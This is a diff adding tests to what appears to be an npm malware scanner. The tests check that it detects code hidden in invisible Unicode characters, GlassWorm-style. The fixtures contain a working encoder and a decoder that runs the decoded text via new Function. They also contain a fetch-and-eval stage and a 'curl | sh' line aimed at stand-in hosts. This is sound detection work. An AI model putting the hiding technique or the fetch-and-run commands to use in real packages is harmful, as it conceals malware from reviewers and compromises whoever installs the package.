@@ -1418,3 +1418,38 @@ def test_a_minified_webpack_module_required_into_a_name_and_called_is_reached():
     # The module required and never called stays a function nobody runs.
     idle = run({"index.js": "module.exports = 1;\n", "dist/cli.js": bundle % (stealer, "console.log(typeof t);")}, bins=bins)
     assert all(f.severity < Severity.HIGH for f in idle if f.rule == "code/secret-exfiltration")
+
+
+def _invisible(text: str) -> str:
+    """`text` spelled in variation selectors, one per byte (GlassWorm's encoding)."""
+    return "".join(chr(0xFE00 + b if b < 16 else 0xE0100 + b - 16) for b in text.encode())
+
+
+def test_code_spelled_in_invisible_characters_in_a_data_file_is_judged_as_code():
+    # (blind set 53's emoji table: a value's "presentation hints" are variation selectors that spell a loader, which
+    # index.js collects while it normalises every value and hands to an AsyncFunction when loaded)
+    stage = "fetch('https://drop.example/s').then(r => r.text()).then(s => (0, eval)(s));"
+    emoji = {"ok": "\u2714\ufe0f", "gear": "\u2699\ufe0f" + _invisible(stage), "flag": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"}
+    index = ("const raw = require('./data/emoji.json');\nconst hints = [];\n"
+             "for (const v of Object.values(raw)) for (const ch of v) { const cp = ch.codePointAt(0);\n"
+             "  if (cp >= 0xfe00 && cp <= 0xfe0f) hints.push(cp - 0xfe00); else if (cp >= 0xe0100) hints.push(cp - 0xe0100 + 16); }\n"
+             "new Function(Buffer.from(hints).toString('utf8'))();\nmodule.exports = raw;\n")
+    found = run({"index.js": index, "data/emoji.json": json.dumps(emoji, ensure_ascii=False)})
+    hidden = next(f for f in found if f.file == "data/emoji.json" and f.rule == "code/remote-code")
+    assert hidden.severity is Severity.CRITICAL and "invisible characters under `gear`" in hidden.message
+    assert decide(found).level is Level.MALICIOUS
+    # Emoji as emoji take one selector each, a subdivision flag six tags: nothing hidden, nothing decoded.
+    del emoji["gear"]
+    plain = run({"index.js": index, "data/emoji.json": json.dumps(emoji, ensure_ascii=False)})
+    assert not any(f.file == "data/emoji.json" for f in plain)
+
+
+def test_invisible_characters_are_read_back_as_the_text_they_spell():
+    from npmward.analyzers.code.strings import decode_invisible
+    # Tag characters shadow ASCII one for one ("ASCII smuggling"); variation selectors are bytes (GlassWorm).
+    command = "require('child_process').exec('curl -s https://x.example/i | sh')"
+    assert decode_invisible("x" + "".join(chr(0xE0000 + ord(c)) for c in command)) == command
+    assert decode_invisible("\u2699\ufe0f" + _invisible(command)) == command
+    # An emoji's one selector, a flag's six tags, a short run of selectors: no text.
+    assert decode_invisible("\u2714\ufe0f \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f") is None
+    assert decode_invisible(_invisible("abc")) is None
